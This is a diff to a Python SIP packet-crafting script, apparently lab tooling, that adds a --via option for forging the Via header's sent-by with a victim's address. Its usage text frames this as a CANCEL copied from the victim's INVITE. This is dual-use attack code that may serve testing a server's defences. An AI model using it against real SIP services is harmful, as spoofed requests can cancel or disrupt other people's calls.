@@ -10,12 +10,15 @@ sender binds the address given with --bind (an attacker's own address).
         INVITE's Via branch), cseq (the INVITE's CSeq number).
     sipcraft.py send --bind IP:PORT --to IP:PORT --method M --ruri URI
                      --callid C --ftag T [--ttag T] [--branch B] [--cseq N]
-                     [--route URI] [--sdp IP:PORT] [--wait S] [--count N]
+                     [--route URI] [--sdp IP:PORT] [--via IP:PORT] [--wait S]
+                     [--count N]
         Send one request (or --count N of them, each with its own branch and
         Call-ID suffix when N > 1) and print one "rx status=NNN reason=..."
         per response heard within --wait seconds (default 2), then
         "sent=N responses=N final=NNN|none". ACK and --wait 0 wait for
-        nothing.
+        nothing. --via forges the top Via's sent-by (a victim's address, as
+        a CANCEL copied from its INVITE would carry); responses then go to
+        the datagram's source all the same (RFC 3581 received/rport).
     sipcraft.py ring --bind IP:PORT --to IP:PORT --ruri URI --go FILE
                      --state FILE [--wait S]
         A caller that gives up: INVITE (with SDP), waits for 180, writes
@@ -140,7 +143,8 @@ def cmd_send(a):
     for i in range(n):
         br = a.branch if (a.branch and n == 1) else "z9hG4bK-craft-%d-%d" % (random.getrandbits(32), i)
         cid = a.callid if n == 1 else "%s-%d" % (a.callid, i)
-        s.sendto(build(a.method, a.ruri, bind[0], bind[1], br, cid, a.ftag, a.ttag, a.cseq,
+        vh, vp = hostport(a.via) if a.via else bind
+        s.sendto(build(a.method, a.ruri, vh, vp, br, cid, a.ftag, a.ttag, a.cseq,
                        a.route, a.sdp), to)
         sent += 1
     if a.method != "ACK" and a.wait > 0:
@@ -219,6 +223,7 @@ def main():
     s.add_argument("--cseq", default="20")
     s.add_argument("--route", default=None)
     s.add_argument("--sdp", default=None)
+    s.add_argument("--via", default=None)
     s.add_argument("--wait", type=float, default=2.0)
     s.add_argument("--count", type=int, default=1)
     r = sub.add_parser("ring")
